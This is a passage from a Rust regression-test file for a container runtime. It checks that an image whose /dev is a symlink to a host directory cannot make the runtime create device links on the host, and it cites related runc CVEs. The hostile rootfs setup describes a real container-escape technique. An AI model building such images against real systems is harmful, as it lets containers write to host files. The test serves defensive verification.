        assert_eq!(domain, "pwned-52881", "the sysctl was not applied");
    }
}

/// An image whose /dev is a symlink to a host directory (`/dev -> /etc`):
/// with no /dev mount in the spec, the runtime makes /dev's links (fd,
/// stdin, stdout, stderr, kcore, ptmx, after removing any `ptmx`) through
/// the symlink, on the host. The same class as GHSA-jfvp-7x6p-h2pv
/// (CVE-2024-45310, runc creating files on the host) and CVE-2021-30465:
/// ironcell had the flaw (libcontainer patch 13 fixes it), as has Debian's
/// runc 1.1.5. The host directory must be left as it was.
#[test]
fn rootfs_dev_symlink_cannot_make_the_runtime_write_on_the_host() {
    if !need_root("rootfs_dev_symlink_cannot_make_the_runtime_write_on_the_host") {
        return;
    }
    let e = Escape::new();
    let host = e.dir.path().join("host-dir");
    fs::create_dir(&host).unwrap();
    fs::write(host.join("ptmx"), "host file\n").unwrap();
    let _ = fs::remove_dir_all(e.rootfs.join("dev"));
    symlink(&host, e.rootfs.join("dev")).unwrap();
    let check = format!("{VERDICT}; verdict RAN");
    for (name, keep) in [("image-dev", false), ("tmpfs-dev", true)] {
        let id = unique(&format!("devlink-{name}"));
        let b = e.bundle(&id, &["/bin/sh", "-c", &check], |c| {
            if !keep {
                image_dev(c, &[]);
            }
        });
        let r = e.run_for_verdict(&b, &id);
        eprintln!("/dev symlink, {name}: {r:?}");
        let mut left: Vec<String> = fs::read_dir(&host)
            .unwrap()
            .flatten()
            .map(|d| d.file_name().to_string_lossy().into_owned())
            .collect();
        left.sort();
        assert_eq!(
            left,
            ["ptmx"],
            "{name}: the runtime wrote in the host directory"
        );
        assert_eq!(
            fs::read_to_string(host.join("ptmx")).unwrap(),
            "host file\n"
        );
    }
}
